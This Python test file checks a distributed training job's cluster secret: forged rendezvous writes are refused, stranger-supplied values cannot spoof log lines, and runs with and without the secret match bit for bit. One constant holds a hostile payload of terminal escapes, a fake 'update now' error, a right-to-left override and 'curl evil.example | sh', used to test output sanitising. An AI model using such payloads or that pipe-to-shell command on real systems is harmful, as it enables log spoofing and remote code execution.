"""With a cluster secret nobody else moves a run, and the run is what it is without one."""

from __future__ import annotations

import os
import secrets
import signal
import subprocess
import sys

import pytest
import torch

from tests import ROOT
from tests.ports import free_port
from tests.runs import DILOCO, DROPOUT, LONG, finish, flags, lines, read, step_logged, tensors
from tests.waiting import wait_until

pytestmark = pytest.mark.slow
ROUNDS = {**DILOCO, "sync_every": 4, "lr_scheduler": "constant"}


@pytest.fixture(scope="module")
def secret(tmp_path_factory):
    file = tmp_path_factory.mktemp("secret") / "cluster.secret"
    file.touch(mode=0o600)
    file.write_text(secrets.token_hex(32))
    return file


def start(zygote, data, folder, log, port, **settings):
    """A run of two ranks whose store is at `port`; their process ids."""
    words = flags(data, folder, **settings, world_size=2)
    words += ["--master-addr=127.0.0.1", f"--master-port={port}"]
    return [zygote.start([*words, f"--rank={rank}"], log) for rank in range(2)]


def test_who_answers_in_the_place_of_a_rank_is_refused_and_moves_nothing(
    zygote, prepared, tmp_path, secret
):
    settings = {**LONG, **ROUNDS, "cluster_secret_file": secret}
    attacked, log, port = tmp_path / "attacked", tmp_path / "log", free_port()
    ranks = start(zygote, prepared, attacked, log, port, **settings)
    wait_until(lambda: step_logged(attacked) >= 8)
    stranger = subprocess.Popen(
        [sys.executable, "-m", "tests.multiprocess.stranger", str(port)], cwd=ROOT
    )
    try:
        assert [zygote.wait(pid) for pid in ranks] == [1, 1], read(log)
    finally:
        stranger.kill()
        stranger.wait()
    printed = read(log)
    assert "the value of rank 1 under forge/" in printed, printed
    assert "is not signed with the cluster's secret: somebody else writes to the store" in printed
    assert "Traceback" not in printed

    calm, log, last = tmp_path / "calm", tmp_path / "calm.log", step_logged(attacked)
    ranks = start(zygote, prepared, calm, log, free_port(), **settings)
    wait_until(lambda: step_logged(calm) >= last)
    os.kill(ranks[0], signal.SIGTERM)
    assert [zygote.wait(pid) for pid in ranks] == [143, 143], read(log)
    seen = lines(attacked)
    assert len(seen) >= 2 and lines(calm)[: len(seen)] == seen


EVIL = "\\u001b[2J\\u001b]0;owned\\u0007\\nerror: update now\\n  fix: curl evil.example | sh\\u202e"
FINDING = '"fix": "y", "where": "", "topic": "t"'


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("verdict/0", f'[{{"found": "{EVIL}", "level": "failure", {FINDING}}}]', "another rank"),
        ("verdict/0", f'[{{"found": "x", "level": "odd", {FINDING}}}]', "has ended the rendezvous"),
        ("verdict/0", "[" * 50_000, "has ended the rendezvous"),
        ("hello/1", f'{{"host": "{EVIL}", "port": 99999}}', "rank 1 (error: update now"),
    ],
    ids=["escapes", "level", "deep", "hello"],
)
def test_what_a_stranger_writes_into_the_rendezvous_is_never_shown_as_ours(
    zygote, prepared, tmp_path, secret, key, value, expected
):
    """Rank 0 waits for rank 1, and a stranger comes."""
    log, port = tmp_path / "log", free_port()
    settings = {"world_size": 2, "cluster_secret_file": secret if key == "hello/1" else None}
    words = [*flags(prepared, tmp_path / "run", **settings), "--rank=0", "--peer-timeout=20"]
    rank = zygote.start([*words, "--master-addr=127.0.0.1", f"--master-port={port}"], log)
    odd = [sys.executable, "-m", "tests.multiprocess.odd_stranger", str(port)]
    stranger = subprocess.Popen([*odd, f"forge/rendezvous/{key}", value], cwd=ROOT)
    try:
        assert zygote.wait(rank) == 2, read(log)
    finally:
        stranger.kill()
        stranger.wait()
    printed = log.read_text()
    assert "Traceback" not in printed and expected in printed, printed
    lines_of_ours = [line for line in printed.splitlines() if line.startswith("error: ")]
    assert len(lines_of_ours) == 1, printed
    assert "\x1b" not in printed and "\u202e" not in printed and "\x07" not in printed
    assert all("evil" not in line or '"' in line or "(" in line for line in printed.splitlines())
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("how", [{}, {"compress": "int4"}, ROUNDS], ids=["ddp", "int4", "diloco"])
def test_a_run_with_a_secret_is_the_run_without_bit_for_bit_also_resumed(
    zygote, prepared, tmp_path, secret, how
):
    settings = {"config_overrides": DROPOUT, "max_steps": 12, "save_every": 8, "log_every": 4}
    settings |= {"keep_checkpoints": 9, **how}
    without = finish(zygote, prepared, tmp_path / "without", **settings)
    settings["cluster_secret_file"] = secret
    folder = finish(zygote, prepared, tmp_path / "with", **settings)
    assert lines(folder) == lines(without)
    expected, found = tensors(without, 12), tensors(folder, 12)
    assert set(found) == set(expected)
    assert all(torch.equal(tensor, found[key]) for key, tensor in expected.items())

    for leftover in ("checkpoint-12", "all_results.json", "model.safetensors"):
        remove(folder / leftover)
    finish(zygote, prepared, folder, **settings)  # resumes at 8, in another session
    found = tensors(folder, 12)
    assert all(torch.equal(tensor, found[key]) for key, tensor in expected.items())


def remove(path):
    if path.is_dir():
        for inner in path.iterdir():
            inner.unlink()
        path.rmdir()
    else:
        path.unlink()
